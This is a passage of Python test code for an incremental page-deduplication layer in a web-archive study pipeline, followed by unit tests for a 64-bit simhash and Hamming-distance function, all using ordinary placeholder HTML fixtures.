            "cdx-api": f"cc-index/{name}.cdxj", "records": len(pages),
        })
    (root / "collinfo.json").write_text(json.dumps(collinfo))


def run(root, db_path, domains, *, workers=1, dedup=None, index_path=None,
        max_pages=8):
    manifest, stats = execute_study_run(
        archive_root=root, db_path=db_path, domains=domains,
        max_pages=max_pages, workers=workers, seed=0, dedup=dedup,
        index_path=index_path,
    )
    return manifest, stats


def pages_table(db_path) -> list[tuple]:
    conn = sqlite3.connect(db_path)
    try:
        return conn.execute(
            "SELECT url, checked, carried_from FROM pages"
            " JOIN snapshots ON snapshots.id = pages.snapshot_id"
            " ORDER BY pages.id"
        ).fetchall()
    finally:
        conn.close()


@pytest.fixture(scope="module")
def overlap_archive(tmp_path_factory):
    """A generated multi-snapshot corpus with 2/3 stable pages per year."""
    root = tmp_path_factory.mktemp("overlap-archive")
    config = CorpusConfig(num_domains=12, max_pages=3, seed=19,
                          years=(2020, 2021, 2022), overlap_fraction=0.8)
    plan = CorpusPlanner(config).plan()
    ArchiveBuilder(root).build(plan)
    return root, [(name, rank) for name, rank in plan.domains]


class TestFullEquivalence:
    def test_incremental_matches_full_aggregate(self, overlap_archive, tmp_path):
        root, domains = overlap_archive
        full, _ = run(root, tmp_path / "full.sqlite", domains, max_pages=4)
        inc, _ = run(root, tmp_path / "inc.sqlite", domains, max_pages=4,
                     dedup=DedupConfig())
        counters = inc["dedup_counters"]
        assert counters["carried"] > 0, counters
        assert counters["cdx_hits"] > 0, counters
        assert (
            inc["results"]["aggregate_sha256"]
            == full["results"]["aggregate_sha256"]
        )
        # the full dumps legitimately differ: the incremental run's pages
        # carry provenance markers the full path never writes
        assert (
            inc["results"]["full_sha256"] != full["results"]["full_sha256"]
        )

    def test_provenance_column_semantics(self, overlap_archive, tmp_path):
        root, domains = overlap_archive
        db = tmp_path / "prov.sqlite"
        run(root, db, domains, max_pages=4, dedup=DedupConfig())
        rows = pages_table(db)
        carried = [r for r in rows if r[2]]
        fresh = [r for r in rows if not r[2]]
        assert carried and fresh
        snapshot_ids = {snapshot_name(y) for y in (2020, 2021, 2022)}
        for _url, _checked, provenance in carried:
            source_snapshot, source_url = provenance.split(" ", 1)
            assert source_snapshot in snapshot_ids, provenance
            assert source_url.startswith("https://"), provenance

    @pytest.mark.parametrize("workers", [2, 4])
    def test_worker_count_bit_identity(self, overlap_archive, tmp_path, workers):
        root, domains = overlap_archive
        sequential, _ = run(
            root, tmp_path / "w1.sqlite", domains, max_pages=4,
            dedup=DedupConfig(), index_path=tmp_path / "w1-index.sqlite",
        )
        parallel, _ = run(
            root, tmp_path / f"w{workers}.sqlite", domains, max_pages=4,
            workers=workers, dedup=DedupConfig(),
            index_path=tmp_path / f"w{workers}-index.sqlite",
        )
        assert (
            parallel["results"]["full_sha256"]
            == sequential["results"]["full_sha256"]
        )


class TestEdgeCases:
    def test_identical_body_different_url_carries(self, tmp_path):
        root = tmp_path / "archive"
        build_archive(root, {
            2021: [("https://site.example/old-path", DIRTY_PAGE)],
            2022: [("https://site.example/new-path", DIRTY_PAGE)],
        })
        db = tmp_path / "r.sqlite"
        _, _ = run(root, db, [("site.example", 1.0)], dedup=DedupConfig())
        rows = pages_table(db)
        assert rows[0] == ("https://site.example/old-path", 1, "")
        assert rows[1] == (
            "https://site.example/new-path", 1,
            f"{snapshot_name(2021)} https://site.example/old-path",
        )

    def test_zero_findings_page_still_carries(self, tmp_path):
        """A clean page (no findings at all) is a first-class carry: the
        index records the empty outcome and the second snapshot skips the
        check without inventing or dropping rows."""
        root = tmp_path / "archive"
        build_archive(root, {
            2021: [("https://site.example/", CLEAN_PAGE)],
            2022: [("https://site.example/", CLEAN_PAGE)],
        })
        db = tmp_path / "r.sqlite"
        manifest, _ = run(root, db, [("site.example", 1.0)],
                          dedup=DedupConfig())
        assert manifest["dedup_counters"]["carried"] == 1
        rows = pages_table(db)
        assert len(rows) == 2
        assert rows[1][2] == f"{snapshot_name(2021)} https://site.example/"
        conn = sqlite3.connect(db)
        assert conn.execute("SELECT COUNT(*) FROM findings").fetchone() == (0,)
        conn.close()

    def test_same_body_different_charset_header(self, tmp_path):
        """Identical bytes under a different Content-Type charset: the
        strict content key treats them as different documents (the
        declared encoding changes the stored verdict), while the CDX
        digest tier carries them — the documented approximation."""
        pages = {
            2021: [("https://site.example/", DIRTY_PAGE,
                    "text/html; charset=UTF-8")],
            2022: [("https://site.example/", DIRTY_PAGE,
                    "text/html; charset=ISO-8859-1")],
        }
        strict_root = tmp_path / "strict"
        build_archive(strict_root, pages)
        strict_db = tmp_path / "strict.sqlite"
        strict, _ = run(strict_root, strict_db, [("site.example", 1.0)],
                        dedup=DedupConfig(trust_cdx_digest=False))
        assert strict["dedup_counters"]["carried"] == 0
        assert all(not r[2] for r in pages_table(strict_db))

        trusting_db = tmp_path / "trusting.sqlite"
        trusting, _ = run(strict_root, trusting_db, [("site.example", 1.0)],
                          dedup=DedupConfig(trust_cdx_digest=True))
        assert trusting["dedup_counters"]["cdx_hits"] == 1

    def test_near_dup_threshold_boundary(self, tmp_path):
        """The simhash tier carries at exactly the configured Hamming
        distance and refuses one bit below it."""
        original = DIRTY_PAGE + b"<p>breaking news story one today</p>"
        revised = DIRTY_PAGE + b"<p>breaking news story two today</p>"
        distance = hamming64(simhash64(original), simhash64(revised))
        assert distance >= 1
        root = tmp_path / "archive"
        build_archive(root, {
            2021: [("https://site.example/", original)],
            2022: [("https://site.example/", revised)],
        })
        domains = [("site.example", 1.0)]

        at_db = tmp_path / "at.sqlite"
        at, _ = run(root, at_db, domains,
                    dedup=DedupConfig(near_hamming=distance))
        assert at["dedup_counters"]["near_hits"] == 1
        rows = pages_table(at_db)
        assert rows[1][2] == f"~{snapshot_name(2021)} https://site.example/"

        below_db = tmp_path / "below.sqlite"
        below, _ = run(root, below_db, domains,
                       dedup=DedupConfig(near_hamming=distance - 1))
        assert below["dedup_counters"]["near_hits"] == 0
        assert below["dedup_counters"]["misses"] == 2

    def test_within_snapshot_duplicates_not_carried(self, tmp_path):
        """Lookups only see entries committed at the previous snapshot
        boundary: two identical bodies inside one snapshot are both
        checked fresh (order-independence across worker counts)."""
        root = tmp_path / "archive"
        build_archive(root, {
            2022: [
                ("https://site.example/a", DIRTY_PAGE),
                ("https://site.example/b", DIRTY_PAGE),
            ],
        })
        db = tmp_path / "r.sqlite"
        manifest, _ = run(root, db, [("site.example", 1.0)],
                          dedup=DedupConfig())
        assert manifest["dedup_counters"]["carried"] == 0
        assert manifest["dedup_counters"]["misses"] == 2
        # first-wins: only one index entry staged for the shared body
        assert manifest["dedup_counters"]["staged"] == 1
        assert all(not r[2] for r in pages_table(db))
