"""Simhash sketch tests: seed-free determinism and distance behaviour."""
from __future__ import annotations

from repro.incremental.simhash import hamming64, simhash64

NEWS_A = (
    b"<!DOCTYPE html><html><body><p>breaking news story one</p>"
    b"<p>weather sunny</p></body></html>"
)
NEWS_B = (
    b"<!DOCTYPE html><html><body><p>breaking news story two</p>"
    b"<p>weather sunny</p></body></html>"
)
UNRELATED = (
    b"completely different content about cooking recipes and baking "
    b"bread all day long"
)


class TestDeterminism:
    def test_pinned_value(self):
        """The sketch is a pure function of the bytes — pinned across
        platforms, processes and interpreter restarts (no seed, no hash
        randomization).  A change here is a content-index format break."""
        assert simhash64(NEWS_A) == 0xF3D862867EC005

    def test_repeated_calls_identical(self):
        assert simhash64(NEWS_A) == simhash64(NEWS_A)
        assert simhash64(bytes(NEWS_A)) == simhash64(NEWS_A)

    def test_token_free_payload_is_zero(self):
        assert simhash64(b"") == 0
        assert simhash64(b" \t\n  ") == 0
        assert simhash64(b"<<<>>>&&;;==") == 0


class TestDistance:
    def test_small_edit_small_distance(self):
        """One changed word on a shared boilerplate lands within a few
        bits — the property the near-dup tier exploits."""
        distance = hamming64(simhash64(NEWS_A), simhash64(NEWS_B))
        assert 0 < distance <= 8

    def test_unrelated_content_far_apart(self):
        distance = hamming64(simhash64(NEWS_A), simhash64(UNRELATED))
        assert distance > 16

    def test_identical_content_distance_zero(self):
        assert hamming64(simhash64(NEWS_A), simhash64(NEWS_A)) == 0

    def test_hamming_basics(self):
        assert hamming64(0, 0) == 0
        assert hamming64(0, (1 << 64) - 1) == 64
        assert hamming64(0b1010, 0b0110) == 2
